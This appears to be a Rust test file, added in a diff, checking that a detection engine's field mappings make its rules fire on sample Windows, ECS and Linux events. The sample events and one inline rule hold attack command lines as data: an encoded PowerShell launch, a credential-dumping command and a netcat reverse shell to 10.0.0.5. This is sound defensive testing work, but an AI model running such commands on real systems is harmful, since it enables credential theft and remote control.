@@ -1,0 +1,107 @@
+#![allow(clippy::unwrap_used)] // test code: a panic is the failure report
+
+//! The shipped mappings route logsources and resolve fields as a user
+//! of each event layout expects (uses only data in this repository).
+
+use std::path::Path;
+
+use warden_detect::{Engine, Mapping, event};
+
+fn starter(mapping: &str) -> Engine {
+    let mut b = Engine::builder().mapping(Mapping::builtin(mapping).unwrap().unwrap());
+    b.add_path(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/packs"))
+        .unwrap();
+    let e = b.build();
+    assert!(e.rejections().is_empty(), "{:?}", e.rejections());
+    e
+}
+
+fn titles(e: &Engine, json: &str) -> Vec<String> {
+    let v = event::parse(json.as_bytes()).unwrap();
+    let mut sc = e.scratch();
+    let mut hits = Vec::new();
+    e.detect_raw(json.as_bytes(), &v, &mut sc, &mut hits);
+    hits.iter().map(|h| h.rule.meta.title.clone()).collect()
+}
+
+#[test]
+fn windows_security_4688_uses_its_field_names() {
+    let e = starter("windows");
+    let ev = r#"{"Event":{"System":{"EventID":4688,"Channel":"Security","Computer":"WS1"},
+        "EventData":{"NewProcessName":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "ParentProcessName":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+        "CommandLine":"powershell.exe -nop -enc SQBFAFgA"}}}"#;
+    let t = titles(&e, ev);
+    assert!(
+        t.contains(&"Office Application Spawning a Shell".to_string()),
+        "{t:?}"
+    );
+    assert!(
+        t.contains(&"Encoded PowerShell Command Line".to_string()),
+        "{t:?}"
+    );
+    // The same data on another channel is not a process creation.
+    let other = ev.replace("\"Security\"", "\"Application\"");
+    assert!(titles(&e, &other).is_empty());
+}
+
+#[test]
+fn windows_evtx_text_nodes_read_as_values() {
+    let e = starter("windows");
+    // evtx_dump renders some values as {"#text": ..., "#attributes": ...}.
+    let ev = r##"{"Event":{"System":{"EventID":{"#text":4625,"#attributes":{"Qualifiers":0}},"Channel":"Security"},
+        "EventData":{"TargetUserName":"Administrator","LogonType":3}}}"##;
+    assert_eq!(
+        titles(&e, ev),
+        vec!["Failed Network Logon for a Built-in Administrator"]
+    );
+}
+
+#[test]
+fn ecs_winlogbeat_sysmon_process_creation() {
+    let e = starter("ecs");
+    let ev = r#"{"@timestamp":"2026-11-20T10:00:00Z","host":{"name":"ws1","os":{"type":"windows"}},
+        "winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1"},
+        "process":{"executable":"C:\\Users\\Public\\m.exe","command_line":"m.exe privilege::debug sekurlsa::logonpasswords",
+        "parent":{"executable":"C:\\Windows\\System32\\cmd.exe"}}}"#;
+    assert_eq!(titles(&e, ev), vec!["Credential Dumping Tool Command Line"]);
+    // A Sysmon network event carrying the same text is not a process creation.
+    let net = ev.replace(r#""event_id":"1""#, r#""event_id":"3""#);
+    assert!(titles(&e, &net).is_empty());
+}
+
+#[test]
+fn ecs_linux_process_start_from_elastic_agent() {
+    let mut b = Engine::builder().mapping(Mapping::builtin("ecs").unwrap().unwrap());
+    b.add_yaml(
+        "title: Netcat reverse shell\nid: 6b1a7f0e-1d2c-4e3f-8a9b-0c1d2e3f4a5b\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\n  condition: sel\n",
+        Path::new("inline.yml"),
+    )
+    .unwrap();
+    let e = b.build();
+    assert!(e.rejections().is_empty(), "{:?}", e.rejections());
+    let ev = r#"{"event":{"category":["process"],"type":["start"]},"host":{"os":{"type":"linux"}},
+        "process":{"executable":"/usr/bin/nc","command_line":"nc 10.0.0.5 4444 -e /bin/sh"}}"#;
+    assert_eq!(titles(&e, ev), vec!["Netcat reverse shell"]);
+    let windows = ev.replace(r#""type":"linux""#, r#""type":"windows""#);
+    assert!(titles(&e, &windows).is_empty());
+}
+
+#[test]
+fn uncovered_logsource_is_rejected_with_reason() {
+    let mut b = Engine::builder().mapping(Mapping::builtin("windows").unwrap().unwrap());
+    b.add_yaml(
+        "title: t\nid: x\nlogsource: {product: zeek, category: dns}\ndetection:\n  sel:\n    query: a\n  condition: sel\n",
+        Path::new("zeek.yml"),
+    )
+    .unwrap();
+    let e = b.build();
+    assert_eq!(e.rules().len(), 0);
+    assert!(
+        e.rejections()[0]
+            .reason
+            .contains("not covered by mapping 'windows'"),
+        "{:?}",
+        e.rejections()
+    );
+}
